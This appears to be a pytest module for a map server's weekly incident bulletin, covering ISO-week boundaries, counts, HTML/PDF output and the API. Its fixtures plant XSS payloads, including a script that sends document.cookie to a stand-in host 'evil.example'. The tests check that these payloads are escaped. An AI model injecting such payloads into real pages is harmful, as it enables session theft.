"""The weekly bulletin (mapserver.bulletin, `mapserver bulletin`, GET /api/reports/weekly) on a small fixture whose
answers are counted here independently (local weeks from zoneinfo, no SQL), on both store backends.

The fixture's week is the last whole ISO week before today (Asia/Shanghai), so the CLI and the API, which
refuse weeks not yet begun, take it whatever the date; the four weeks before it carry background incidents,
the week itself also a planted cluster (a new hotspot), incidents on both sides of each Monday 00:00 local,
and hostile names and descriptions.
"""

from __future__ import annotations

import re
import subprocess
import sys
import uuid
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import h3
import numpy as np
import pytest
from click.testing import CliRunner
from shapely.geometry import Point, box

from mapserver.bulletin.week import IsoWeek, parse_week, weeks_in_year
from mapserver.bulletin.weekly import TREND_RES, weekly_bulletin
from mapserver.cli import main as cli_main
from mapserver.config import Settings, StoreSettings
from mapserver.derived import DerivedData
from mapserver.errors import Problem
from mapserver.model import Grid, Incident

ZONE_NAME = "Asia/Shanghai"
ZONE = ZoneInfo(ZONE_NAME)
WEEK = IsoWeek(*(datetime.now(ZONE).date() - timedelta(days=7)).isocalendar()[:2], ZONE_NAME)
WEEKS = [*WEEK.previous(4), WEEK]
HOSTILE_STREET = '<script>alert("街")</script>陈州街道'
HOSTILE_COMMUNITY = "东方社区<img src=//evil.example/x onerror=alert(1)>"
HOSTILE_TEXT = '<script>fetch("https://evil.example/"+document.cookie)</script>井盖缺失'
CATEGORIES = ("disputes", "public_security", "fire_hazard", "city_appearance")
CLUSTER = (114.645, 33.615)  # (lon, lat): planted in the bulletin's week only

STREETS = [Grid(code="411602001000", level=1, name=HOSTILE_STREET, geom=box(114.60, 33.60, 114.63, 33.63)),
           Grid(code="411602002000", level=1, name="七一路街道", geom=box(114.63, 33.60, 114.66, 33.63))]
COMMUNITIES = [
    Grid(code="411602001001", level=2, name=HOSTILE_COMMUNITY, geom=box(114.60, 33.60, 114.615, 33.63),
         parent_code="411602001000"),
    Grid(code="411602001002", level=2, name="西关社区", geom=box(114.615, 33.60, 114.63, 33.63),
         parent_code="411602001000"),
    Grid(code="411602002001", level=2, name="七一社区", geom=box(114.63, 33.60, 114.645, 33.63),
         parent_code="411602002000"),
    Grid(code="411602002002", level=2, name="人和社区", geom=box(114.645, 33.60, 114.66, 33.63),
         parent_code="411602002000"),
]


def _local(day: date, hour: int, minute: int, second: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, second, tzinfo=ZONE).astimezone(UTC)


def _incident(n: int, lon: float, lat: float, at: datetime, *, category: str, community: Grid | None,
              closed_after: timedelta | None, due_after: timedelta = timedelta(days=2),
              description: str = "") -> Incident:
    return Incident(
        id=str(uuid.UUID(int=n + 1)), geom=Point(lon, lat), reported_at=at, category=category,
        status="closed" if closed_after is not None else "dispatched",
        closed_at=at + closed_after if closed_after is not None else None,
        due_at=at + due_after, description=description,
        grid_code=community.code if community else None, grid_l1=community.parent_code if community else None,
        grid_l2=community.code if community else None, h3_cell=h3.latlng_to_cell(lat, lon, 9))


def fixture_incidents() -> list[Incident]:
    """Background in every week, a cluster in the last, and the edge cases named in the module docstring."""
    rng = np.random.default_rng(11)
    out: list[Incident] = []

    def add(**kw) -> None:
        out.append(_incident(len(out), **kw))

    for k, week in enumerate(WEEKS):
        for _ in range(30 + 4 * k):
            community = COMMUNITIES[int(rng.integers(0, 4))]
            minx, miny, maxx, maxy = community.geom.bounds
            at = week.start + timedelta(minutes=int(rng.integers(0, 7 * 24 * 60)))
            closed = timedelta(hours=float(rng.uniform(1, 120))) if rng.random() < 0.7 else None
            add(lon=float(rng.uniform(minx + 1e-4, maxx - 1e-4)), lat=float(rng.uniform(miny + 1e-4, maxy - 1e-4)),
                at=at, category=CATEGORIES[int(rng.integers(0, 4))], community=community, closed_after=closed)
    for _ in range(60):  # σ ≈ 400 m: spread over the cell and its first ring, as a real cluster is
        at = WEEK.start + timedelta(minutes=int(rng.integers(0, 7 * 24 * 60)))
        lon, lat = CLUSTER[0] + float(rng.normal(0, 0.004)), CLUSTER[1] + float(rng.normal(0, 0.004))
        community = next((c for c in COMMUNITIES if c.geom.contains(Point(lon, lat))), None)
        add(lon=lon, lat=lat, at=at, category="city_appearance", community=community,
            closed_after=timedelta(hours=3))
    # Petitions only at the week's edges: Sunday 23:30 local is 15:30 UTC the same Sunday, still this week.
    sunday = WEEK.sunday
    add(lon=114.61, lat=33.61, at=_local(sunday, 23, 30), category="petitions", community=COMMUNITIES[0],
        closed_after=None, due_after=timedelta(minutes=20), description=HOSTILE_TEXT)
    add(lon=114.61, lat=33.61, at=WEEK.start, category="petitions", community=COMMUNITIES[0],
        closed_after=timedelta(hours=1))
    add(lon=114.62, lat=33.62, at=WEEK.start - timedelta(seconds=1), category="petitions",
        community=COMMUNITIES[1], closed_after=timedelta(hours=1))
    add(lon=114.62, lat=33.62, at=_local(sunday + timedelta(days=1), 0, 30), category="petitions",
        community=COMMUNITIES[1], closed_after=None)
    # One report outside every grid: counted in the totals, in no street.
    add(lon=114.70, lat=33.70, at=WEEK.start + timedelta(days=2), category="other", community=None,
        closed_after=timedelta(hours=2))
    return out


INCIDENTS = fixture_incidents()


# -- independent answers (zoneinfo and Counter, no store) ----------------------------------------------------


def local_week(at: datetime) -> tuple[int, int]:
    year, number, _ = at.astimezone(ZONE).isocalendar()
    return year, number


def counts_by(key) -> dict[str, list[int]]:
    """{key value: [count per week of WEEKS]} counted from the fixture."""
    index = {(w.year, w.number): k for k, w in enumerate(WEEKS)}
    out: dict[str, list[int]] = {}
    for incident in INCIDENTS:
        k = index.get(local_week(incident.reported_at))
        value = key(incident)
        if k is not None and value is not None:
            out.setdefault(value, [0] * len(WEEKS))[k] += 1
    return out


def overdue_at(at: datetime) -> list[Incident]:
    return [i for i in INCIDENTS if i.reported_at < at and i.due_at < at and (i.closed_at is None or i.closed_at > at)]


# -- reading the page back ----------------------------------------------------------------------------------


class Tables(HTMLParser):
    """Rows of every table with an id ({table id: {data-code: [cell texts]}}), text of every element with an id,
    and every URL-bearing attribute."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, dict[str, list[str]]] = {}
        self.by_id: dict[str, str] = {}
        self.urls: list[tuple[str, str, str]] = []
        self.tags: Counter[str] = Counter()
        self._table: str | None = None
        self._row: tuple[str, list[str]] | None = None
        self._cell: list[str] | None = None
        self._open_ids: list[tuple[str, str, list[str]]] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags[tag] += 1
        for name in ("src", "href", "xlink:href", "action", "srcset", "poster", "data"):
            if name in attrs:
                self.urls.append((tag, name, attrs[name] or ""))
        if "style" in attrs:
            self.urls.append((tag, "style", attrs["style"] or ""))
        if tag == "table" and "id" in attrs:
            self._table = attrs["id"]
            self.tables[self._table] = {}
        elif tag == "tr" and self._table is not None:
            self._row = (attrs.get("data-code") or "", [])
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []
        elif "id" in attrs and tag not in ("table", "section"):
            self._open_ids.append((tag, attrs["id"], []))

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row[1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            code, cells = self._row
            if code and self._table is not None:
                self.tables[self._table][code] = cells
            self._row = None
        elif tag == "table":
            self._table = None
        elif self._open_ids and self._open_ids[-1][0] == tag:
            _, ident, text = self._open_ids.pop()
            self.by_id[ident] = "".join(text).strip()

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)
        for _, _, text in self._open_ids:
            text.append(data)


def read(page: str) -> Tables:
    parser = Tables()
    parser.feed(page)
    parser.close()
    return parser


def ints(cells: list[str], n: int = len(WEEKS)) -> list[int]:
    """The week columns of a comparison row (after its label)."""
    return [int(c) for c in cells[1:1 + n]]


# -- fixtures -----------------------------------------------------------------------------------------------


@pytest.fixture
def loaded(store):
    store.layers.add("grids", [*STREETS, *COMMUNITIES])
    store.layers.add("incidents", INCIDENTS)
    return store


def bulletin(store, lang: str = "zh", level: int = 2) -> str:
    settings = Settings(store=StoreSettings(url=store.url))
    return weekly_bulletin(DerivedData(store), settings, week=WEEK, now=datetime.now(UTC), lang=lang, hot_level=level)


# -- weeks --------------------------------------------------------------------------------------------------


def test_an_iso_week_runs_from_monday_to_monday_local_time():
    week = IsoWeek(2026, 47, ZONE_NAME)
    assert (week.monday, week.sunday) == (date(2026, 11, 16), date(2026, 11, 22))
    assert week.start == datetime(2026, 11, 15, 16, tzinfo=UTC) and week.end == datetime(2026, 11, 22, 16, tzinfo=UTC)
    assert [w.label for w in IsoWeek(2027, 2, ZONE_NAME).previous(4)] == ["2026-W51", "2026-W52", "2026-W53",
                                                                          "2027-W01"]
    assert (weeks_in_year(2020), weeks_in_year(2021), weeks_in_year(2026)) == (53, 52, 53)


@pytest.mark.parametrize("text", ["2026-47", "2026-W7", "26-W47", "2026-W00", "2021-W53", "2026-W54", "0000-W01",
                                  "2026-W47 ", "", None])
def test_a_bad_week_is_refused_naming_it(text):
    with pytest.raises(Problem) as caught:
        parse_week(text, zone=ZONE_NAME, now=datetime(2026, 11, 22, tzinfo=UTC))
    assert caught.value.status == 422 and caught.value.param == "week"


def test_a_week_not_yet_begun_is_refused_and_the_running_one_taken():
    now = datetime(2026, 11, 22, 3, tzinfo=UTC)  # Sunday 11:00 in Beijing
    assert parse_week("2026-W47", zone=ZONE_NAME, now=now).label == "2026-W47"
    assert parse_week("2020-W53", zone=ZONE_NAME, now=now).label == "2020-W53"
    with pytest.raises(Problem, match="not begun"):
        parse_week("2026-W48", zone=ZONE_NAME, now=now)


# -- the numbers --------------------------------------------------------------------------------------------


def test_the_bulletin_numbers_equal_independent_counts(loaded):
    page = read(bulletin(loaded))
    by_category = counts_by(lambda i: i.category)
    rows = page.tables["by-category"]
    assert {code for code, counts in by_category.items() if any(counts)} <= set(rows)
    for code, cells in rows.items():
        expected = by_category.get(code, [0] * len(WEEKS)) if code != "total" else \
            [sum(c[k] for c in by_category.values()) for k in range(len(WEEKS))]
        assert ints(cells) == expected, code
        mean = sum(expected[:-1]) / 4
        assert cells[6] == f"{mean:.1f}" and cells[7] == f"{expected[-1] - mean:+.1f}", code

    by_street = counts_by(lambda i: i.grid_l1 or "unassigned")
    streets = page.tables["by-street"]
    assert set(streets) == {"411602001000", "411602002000", "unassigned", "total"}
    for code, cells in streets.items():
        if code != "total":
            assert ints(cells) == by_street[code], code

    totals = [sum(c[k] for c in by_category.values()) for k in range(len(WEEKS))]
    assert ints(page.tables["summary"]["total"]) == totals
    assert page.by_id["kpi-total"] == str(totals[-1])
    in_week = [i for i in INCIDENTS if local_week(i.reported_at) == (WEEK.year, WEEK.number)]
    closed = [i for i in in_week if i.status == "closed"]
    on_time = [i for i in closed if i.closed_at <= i.due_at]
    assert page.by_id["kpi-closure"] == f"{len(closed) / len(in_week) * 100:.1f}%"
    assert page.by_id["kpi-on-time"] == f"{len(on_time) / len(closed) * 100:.1f}%"

    by_community = counts_by(lambda i: i.grid_l2)
    hot = page.tables["hot-grids"]
    assert set(hot) == {code for code, counts in by_community.items() if counts[-1]}
    assert all(ints(cells) == by_community[code] for code, cells in hot.items())
    order = [ints(cells)[-1] for cells in hot.values()]
    assert order == sorted(order, reverse=True)


def test_overdue_items_are_those_open_past_due_at_the_end_of_the_week(loaded):
    page = read(bulletin(loaded))
    overdue = overdue_at(WEEK.end)
    assert page.by_id["kpi-overdue"] == str(len(overdue))
    assert f"{len(overdue)}" in page.by_id["overdue-line"]
    per_street = Counter(i.grid_l1 for i in overdue)
    assert {code: int(cells[1]) for code, cells in page.tables["overdue-streets"].items()} == dict(per_street)
    listed = set(page.tables["overdue-items"])
    assert listed <= {i.id for i in overdue} and len(listed) == min(20, len(overdue))
    # Closed after the week ended: overdue then, although closed now.
    assert any(i.closed_at is not None for i in overdue)


def test_week_boundaries_are_local_midnights(loaded):
    sunday_night = next(i for i in INCIDENTS if i.category == "petitions" and i.description)
    assert sunday_night.reported_at.weekday() == 6 and (sunday_night.reported_at.hour,
                                                        sunday_night.reported_at.minute) == (15, 30)
    petitions = ints(read(bulletin(loaded)).tables["by-category"]["petitions"])
    # This week: Monday 00:00 and Sunday 23:30; the week before: Sunday 23:59:59; next Monday 00:30: neither.
    assert petitions == [0, 0, 0, 1, 2]


def test_a_week_in_progress_runs_to_now(loaded):
    now = WEEK.start + timedelta(days=3, hours=5)
    settings = Settings(store=StoreSettings(url=loaded.url))
    text = weekly_bulletin(DerivedData(loaded), settings, week=WEEK, now=now)
    page = read(text)
    so_far = [i for i in INCIDENTS if WEEK.start <= i.reported_at < now]
    assert ints(page.tables["by-category"]["total"])[-1] == len(so_far)
    assert "本周尚未结束" in text and page.by_id["kpi-overdue"] == str(len(overdue_at(now)))


def test_a_cluster_planted_this_week_is_a_new_hotspot(loaded):
    page = read(bulletin(loaded))
    cell = h3.latlng_to_cell(CLUSTER[1], CLUSTER[0], TREND_RES)
    kinds = {code: cells[0] for code, cells in page.tables["hotspots"].items()}
    assert cell in kinds
    assert re.search(rf'data-code="{cell}" data-kind="new"', bulletin(loaded))


# -- safety of the page ---------------------------------------------------------------------------------------


def test_the_page_links_to_nothing_outside_itself(loaded):
    text = bulletin(loaded)
    page = read(text)
    assert page.tags["svg"] >= 3 and page.tags["style"] == 1
    assert not {"script", "link", "img", "iframe", "object", "embed", "base"} & set(page.tags)
    assert all(not re.search(r"(https?:)?//", value) for _, _, value in page.urls), page.urls
    style = text[text.index("<style>"):text.index("</style>")]
    assert "url(" not in style and "@import" not in style
    assert not re.search(r"<[^>]*\b(src|href)\s*=", text, re.IGNORECASE)  # inside a tag, not escaped text


def test_hostile_names_and_descriptions_are_escaped(loaded):
    text = bulletin(loaded)
    assert "<script" not in text.lower() and "<img" not in text.lower()
    assert "&lt;script&gt;alert(&quot;街&quot;)&lt;/script&gt;陈州街道" in text  # the street, escaped, in its tables
    assert "东方社区&lt;img src=//evil.example/x onerror=alert(1)&gt;" in text
    assert "&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)" in text  # the overdue item


def test_english_labels(loaded):
    text = bulletin(loaded, lang="en", level=3)
    assert '<html lang="en">' in text and "Incidents by category" in text and "public security" in text
    assert "研判专报" not in text


# -- the command --------------------------------------------------------------------------------------------


def _config(tmp_path, url: str) -> str:
    path = tmp_path / "config.yaml"
    path.write_text(f"store:\n  url: {url}\n", encoding="utf-8")
    return str(path)


def test_the_command_writes_the_bulletin(loaded, tmp_path):
    out = tmp_path / "bulletin.html"
    result = CliRunner().invoke(cli_main, ["--config", _config(tmp_path, loaded.url), "bulletin", "--week", WEEK.label,
                                           "--out", str(out)])
    assert result.exit_code == 0, result.output
    page = read(out.read_text(encoding="utf-8"))
    assert ints(page.tables["by-category"]["total"]) == ints(read(bulletin(loaded)).tables["by-category"]["total"])
    assert not list(tmp_path.glob(".bulletin.html.*"))  # no temporary file left behind
    stdout = CliRunner().invoke(cli_main, ["--config", _config(tmp_path, loaded.url), "bulletin", "--week",
                                           WEEK.label, "--lang", "en"])
    assert stdout.exit_code == 0 and stdout.output.startswith("<!DOCTYPE html>") and 'lang="en"' in stdout.output


def test_the_command_writes_a_pdf_with_chinese_fonts(loaded, tmp_path):
    out = tmp_path / "bulletin.pdf"
    config = _config(tmp_path, loaded.url)
    result = CliRunner().invoke(cli_main, ["--config", config, "bulletin", "--week", WEEK.label, "--format", "pdf",
                                           "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF-")
    text = subprocess.run(["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "研判专报" in text and f"{WEEK.year}年第{WEEK.number}周" in text
    totals = ints(read(bulletin(loaded)).tables["by-category"]["total"])
    assert any(line.split()[:6] == ["合计", *map(str, totals)] for line in text.splitlines()), text[:2000]
    fonts = subprocess.run(["pdffonts", str(out)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"WenQuanYi|Noto\S*CJK|SourceHan", fonts), fonts  # Chinese glyphs drawn, not boxes
    no_file = CliRunner().invoke(cli_main, ["--config", config, "bulletin", "--week", WEEK.label, "--format", "pdf"])
    assert no_file.exit_code == 2 and "--out" in no_file.output


def test_without_weasyprint_the_pdf_is_refused_by_name_and_no_file_is_left(loaded, tmp_path, monkeypatch):
    """The README's promise: on a machine without Pango the command says what is missing; the HTML still works."""
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # `import weasyprint` now raises ImportError
    out = tmp_path / "bulletin.pdf"
    config = _config(tmp_path, loaded.url)
    result = CliRunner().invoke(cli_main, ["--config", config, "bulletin", "--week", WEEK.label, "--format", "pdf",
                                           "--out", str(out)])
    assert result.exit_code != 0 and "Pango" in result.output, result.output
    assert not out.exists() and list(tmp_path.glob("*.part")) == []
    html = CliRunner().invoke(cli_main, ["--config", config, "bulletin", "--week", WEEK.label, "--out",
                                         str(tmp_path / "bulletin.html")])
    assert html.exit_code == 0 and (tmp_path / "bulletin.html").read_text().startswith("<!DOCTYPE html>")


@pytest.mark.parametrize(("week", "says"), [("2026-47", "ISO week such as 2026-W47"),
                                            ("2021-W53", "W01–W52"),
                                            ("2026-W00", "W01–W53"),
                                            ("9998-W01", "not begun")])
def test_the_command_refuses_a_bad_week_as_a_usage_error(tmp_path, week, says):
    out = tmp_path / "bulletin.html"
    result = CliRunner().invoke(cli_main, ["--config", _config(tmp_path, f"sqlite:///{tmp_path / 'none.db'}"),
                                           "bulletin", "--week", week, "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert "--week" in result.output and says in result.output
    assert not out.exists() and not (tmp_path / "none.db").exists()  # refused before the store was opened


# -- the API ------------------------------------------------------------------------------------------------


def test_the_api_serves_the_same_bulletin(client, tokens, loaded):
    resp = client.get(f"/api/reports/weekly?week={WEEK.label}", headers=tokens["viewer"])
    assert resp.status_code == 200 and resp.content_type == "text/html; charset=utf-8"
    assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
    served, made = read(resp.get_data(as_text=True)), read(bulletin(loaded))
    assert served.tables == made.tables
    english = client.get(f"/api/reports/weekly?week={WEEK.label}&lang=en&level=3", headers=tokens["viewer"])
    assert english.status_code == 200 and 'lang="en"' in english.get_data(as_text=True)


@pytest.mark.parametrize("query", ["week=2026-47", "week=2021-W53", "week=9998-W01", "", "week=2026-W47&level=4",
                                   "week=2026-W47&lang=fr", "week=2026-W47&colour=red"])
def test_the_api_refuses_bad_weeks_with_a_problem(client, tokens, query):
    resp = client.get(f"/api/reports/weekly?{query}", headers=tokens["viewer"])
    assert resp.status_code in (400, 422) and resp.mimetype == "application/problem+json"
    body = resp.get_json()
    assert body["param"] in ("week", "level", "lang", "colour")
    if "week=" not in query or body["param"] == "week":
        assert resp.status_code == 422


def test_the_api_needs_a_token(client):
    assert client.get(f"/api/reports/weekly?week={WEEK.label}").status_code == 401
